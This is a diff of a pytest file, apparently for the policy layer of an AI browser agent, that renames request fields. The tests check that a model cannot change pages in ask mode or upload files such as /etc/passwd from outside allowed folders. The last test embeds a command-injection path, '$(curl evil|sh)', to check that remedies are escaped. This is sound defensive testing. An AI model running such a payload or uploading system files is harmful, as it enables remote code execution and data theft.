@@ -7,10 +7,10 @@ from pathlib import Path
 import pytest
 
 from handrail.browser.types.facts import ElementFacts
-from handrail.policy import Allow, Deny, DialogFacts, Facts, FileFacts, Permissions, Request, decide
+from handrail.policy import Allow, CallRequest, Deny, DialogFacts, Facts, FileFacts, Permissions, decide
 from handrail.trust import External
 
-CLICK = Request("model", "ask", "click", "change", "click", offered_in_ask=False)
+CLICK = CallRequest("model", "ask", "click", "change", "click", offered_in_ask=False)
 NOWHERE = Facts("https://shop.example", "n1")
 
 
@@ -22,9 +22,9 @@ def element(href: str | None) -> ElementFacts:
     )
 
 
-@pytest.mark.parametrize("asker", ["user", "model", "recipe"])
-def test_ask_mode_lets_nobody_change_a_page(asker):
-    decision = decide(replace(CLICK, asker=asker, tool="fill", capability="write"), NOWHERE)
+@pytest.mark.parametrize("caller", ["user", "model", "recipe"])
+def test_ask_mode_lets_nobody_change_a_page(caller):
+    decision = decide(replace(CLICK, caller=caller, tool="fill", capability="write"), NOWHERE)
     assert isinstance(decision, Deny)
     assert decision.remedy == "--mode act"
 
@@ -50,7 +50,7 @@ def test_in_ask_mode_reading_and_control_are_allowed(effect):
 
 def test_in_ask_mode_the_users_own_navigation_is_theirs_and_a_models_is_not():
     goto = replace(CLICK, tool="goto", effect="navigate", capability="goto")
-    assert isinstance(decide(replace(goto, asker="user"), NOWHERE), Allow)
+    assert isinstance(decide(replace(goto, caller="user"), NOWHERE), Allow)
     assert isinstance(decide(goto, NOWHERE), Deny)
 
 
@@ -59,23 +59,23 @@ def test_act_mode_allows_a_click_where_the_user_went():
     assert decide(replace(CLICK, mode="act", permissions=went), NOWHERE) == Allow("no_rule_objects")
 
 
-@pytest.mark.parametrize("asker", ["user", "model"])
-def test_a_file_outside_the_allowed_folders_is_not_sent(tmp_path: Path, asker):
+@pytest.mark.parametrize("caller", ["user", "model"])
+def test_a_file_outside_the_allowed_folders_is_not_sent(tmp_path: Path, caller):
     facts = replace(NOWHERE, file=FileFacts(Path("/etc/passwd"), (tmp_path,)))
-    decision = decide(Request(asker, "act", "upload_file", "change", "upload", offered_in_ask=False), facts)
+    decision = decide(CallRequest(caller, "act", "upload_file", "change", "upload", offered_in_ask=False), facts)
     assert isinstance(decision, Deny)
     assert decision.remedy == f"--upload-dir {Path('/etc')}"
 
 
 def test_a_file_in_an_allowed_folder_is_sent_for_the_user(tmp_path: Path):
     facts = replace(NOWHERE, file=FileFacts(tmp_path / "cv.pdf", (tmp_path,)))
-    decision = decide(Request("user", "act", "upload_file", "change", "upload", offered_in_ask=False), facts)
+    decision = decide(CallRequest("user", "act", "upload_file", "change", "upload", offered_in_ask=False), facts)
     assert isinstance(decision, Allow)
 
 
 def test_a_folder_whose_name_begins_alike_is_another_folder(tmp_path: Path):
     facts = replace(NOWHERE, file=FileFacts(tmp_path.with_name(tmp_path.name + "-private") / "x", (tmp_path,)))
-    decision = decide(Request("model", "act", "upload_file", "change", "upload", offered_in_ask=False), facts)
+    decision = decide(CallRequest("model", "act", "upload_file", "change", "upload", offered_in_ask=False), facts)
     assert isinstance(decision, Deny)
 
 
@@ -85,7 +85,7 @@ def test_in_ask_mode_a_change_is_a_change_whatever_its_record_offers():
 
 def test_in_ask_mode_the_rules_that_follow_are_asked_too(tmp_path: Path):
     facts = replace(NOWHERE, file=FileFacts(Path("/etc/passwd"), (tmp_path,)))
-    sly = Request("model", "ask", "sly", "read", "upload", offered_in_ask=True)
+    sly = CallRequest("model", "ask", "sly", "read", "upload", offered_in_ask=True)
     assert isinstance(decide(sly, facts), Deny)
 
 
@@ -110,6 +110,6 @@ def test_in_ask_mode_a_dialog_may_be_put_away_but_not_agreed_to(kind, accepts, a
 
 def test_a_remedy_is_one_word_of_a_shell_whatever_path_a_model_composed(tmp_path: Path):
     facts = replace(NOWHERE, file=FileFacts(Path("/tmp/$(curl evil|sh); echo /x"), (tmp_path,)))
-    decision = decide(Request("model", "act", "upload_file", "change", "upload", offered_in_ask=False), facts)
+    decision = decide(CallRequest("model", "act", "upload_file", "change", "upload", offered_in_ask=False), facts)
     assert isinstance(decision, Deny)
     assert shlex.split(decision.remedy) == ["--upload-dir", str(Path("/tmp/$(curl evil|sh); echo"))]
